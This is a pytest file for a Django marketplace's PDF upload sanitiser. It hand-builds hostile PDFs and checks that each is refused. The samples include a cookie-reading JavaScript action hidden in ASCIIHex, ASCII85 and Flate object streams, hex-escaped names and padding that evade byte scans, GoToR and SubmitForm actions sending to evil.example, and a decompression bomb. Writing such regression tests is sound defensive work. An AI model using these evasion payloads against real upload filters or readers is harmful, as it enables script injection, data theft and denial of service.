"""PDF uploads that tried to slip active content past the old byte screen (issue 20, part 2).

Every PDF here is built by hand (raw objects, a real xref table) so that what is tested is the
bytes an attacker would send. Each hostile one must be refused by
`marketplace.core.uploads.clean_document`; a normal PDF (Pillow's, and one with a harmless
"open at page 1" destination) must still be accepted. ADR 0031.
"""

from __future__ import annotations

import base64
import io
import time
import zlib

import pytest
from django.core.exceptions import ValidationError
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from marketplace.core.uploads import MAX_PDF_PAGES, clean_document
from tests.factories import apply_for_shop, make_staff, make_user

JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert(document.cookie)) >>"


def build_pdf(*, catalog_extra: bytes = b"", objects: tuple[bytes, ...] = (), pages: int = 1,
              trailer_extra: bytes = b"") -> bytes:
    """A PDF whose objects 1..3+pages are catalog, page tree, content and pages; `objects`
    follow, numbered from 4 + pages."""
    kids = b" ".join(b"%d 0 R" % (4 + n) for n in range(pages))
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        stream(b"BT /F1 12 Tf 72 770 Td (Giay chung nhan) Tj ET", b"/FlateDecode", zlib.compress),
        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * pages,
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, content in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(body) + 1, trailer_extra, xref)
    return bytes(out)


def stream(content: bytes, filters: bytes, encode, extra: bytes = b"") -> bytes:
    data = encode(content)
    return b"<< /Filter %s /Length %d %s>>\nstream\n" % (filters, len(data), extra) + data + b"\nendstream"


def ascii_hex(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def ascii85(data: bytes) -> bytes:
    return base64.a85encode(data, adobe=True)[2:]  # the stream holds the data and "~>", no "<~"


def object_stream(number: int, content: bytes) -> tuple[bytes, bytes]:
    header = b"%d 0 " % number
    return header + content, b"/Type /ObjStm /N 1 /First %d " % len(header)


def refused(pdf: bytes) -> str:
    with pytest.raises(ValidationError) as excinfo:
        clean_document(io.BytesIO(pdf))
    return excinfo.value.code


def objstm_pdf(filters: bytes, encode) -> bytes:
    """The JavaScript action lives only inside an encoded object stream (object 9), which a link
    annotation runs: no plain byte of the file says JavaScript."""
    content, extra = object_stream(9, JS_ACTION)
    return build_pdf(objects=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 9 0 R >>",
                              stream(content, filters, encode, extra)))


HOSTILE = {
    "objstm-asciihex": objstm_pdf(b"/ASCIIHexDecode", ascii_hex),
    "objstm-ascii85": objstm_pdf(b"/ASCII85Decode", ascii85),
    "objstm-ascii85-then-flate": objstm_pdf(b"[/ASCII85Decode /FlateDecode]",
                                            lambda data: ascii85(zlib.compress(data))),
    "objstm-unreferenced-asciihex": build_pdf(objects=(
        stream(*object_stream(6, JS_ACTION)[:1], b"/ASCIIHexDecode", ascii_hex,
               object_stream(6, JS_ACTION)[1]),)),
    # The old screen looked for /FlateDecode within 4 KiB before `stream`; pad the dictionary.
    "long-stream-header": build_pdf(objects=(stream(
        object_stream(6, JS_ACTION)[0], b"/FlateDecode", zlib.compress,
        object_stream(6, JS_ACTION)[1] + b"/Pad (" + b"x" * 6000 + b") "),)),
    "annotation-action-hex-escaped": build_pdf(
        catalog_extra=b"/OpenAction [4 0 R /Fit] ",
        objects=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /J#61vaScript /#4A#53 (1) >> >>",)),
    "gotor": build_pdf(catalog_extra=b"/OpenAction << /S /GoToR /F (http://evil.example/x.pdf) /D [0 /Fit] >> "),
    "submit-form": build_pdf(objects=(b"<< /S /SubmitForm /F (http://evil.example/) >>",)),
    "unknown-filter": build_pdf(objects=(stream(JS_ACTION, b"/FooDecode", lambda data: data),)),
    "open-action-dictionary": build_pdf(catalog_extra=b"/OpenAction << /S /Named /N /Print >> "),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_active_content_is_refused_however_it_is_wrapped(name):
    assert refused(HOSTILE[name]) == "unsafe_pdf"


def test_the_hostile_pdfs_hide_javascript_from_a_plain_byte_search():
    # Guards the test above: these really need decoding or name unescaping to be seen.
    for name in ("objstm-asciihex", "objstm-ascii85", "objstm-ascii85-then-flate", "long-stream-header",
                 "annotation-action-hex-escaped"):
        assert b"JavaScript" not in HOSTILE[name], name


def test_a_pdf_written_by_a_library_with_a_javascript_open_action_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert(1);")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    assert refused(out.getvalue()) == "unsafe_pdf"


def test_an_encrypted_pdf_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="chu-so-huu", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    assert refused(out.getvalue()) == "unsafe_pdf"


@pytest.mark.parametrize("pdf", [
    b"%PDF-1.7\n" + b"\x00garbage\xff" * 50 + b"\n%%EOF\n",
    build_pdf()[:400] + b"\n%%EOF\n",  # cut short
])
def test_a_pdf_that_cannot_be_parsed_is_refused(pdf):
    assert refused(pdf) == "invalid_pdf"


def test_a_decompression_bomb_is_refused_quickly():
    bomb = stream(b"\x00" * (200 * 1024 * 1024), b"/FlateDecode", lambda data: zlib.compress(data, 9))
    pdf = build_pdf(objects=(bomb,))
    assert len(pdf) < 1024 * 1024  # 200 MB of zeros in well under 1 MB
    started = time.monotonic()
    assert refused(pdf) in {"too_complex_pdf", "invalid_pdf"}
    assert time.monotonic() - started < 10


def test_too_many_pages_are_refused():
    assert refused(build_pdf(pages=MAX_PDF_PAGES + 1)) == "too_complex_pdf"


def test_a_normal_pdf_is_accepted():
    scan = io.BytesIO()
    Image.new("RGB", (600, 800), (240, 240, 230)).save(scan, format="PDF", resolution=72)
    assert clean_document(io.BytesIO(scan.getvalue())).name.endswith(".pdf")
    # "Open at page 1, whole page": a destination, not an action.
    assert clean_document(io.BytesIO(build_pdf(catalog_extra=b"/OpenAction [4 0 R /Fit] "))).name.endswith(".pdf")
    assert clean_document(io.BytesIO(build_pdf(pages=3))).name.endswith(".pdf")


@pytest.mark.django_db
def test_a_stored_pdf_is_served_as_a_sandboxed_download(client, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    shop = apply_for_shop(make_user("chu-htx@example.vn"))
    assert shop.application_document.name.endswith(".pdf")
    client.force_login(make_staff())
    response = client.get(f"/dashboard/shops/{shop.code}/document/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["Cache-Control"] == "private, no-store"
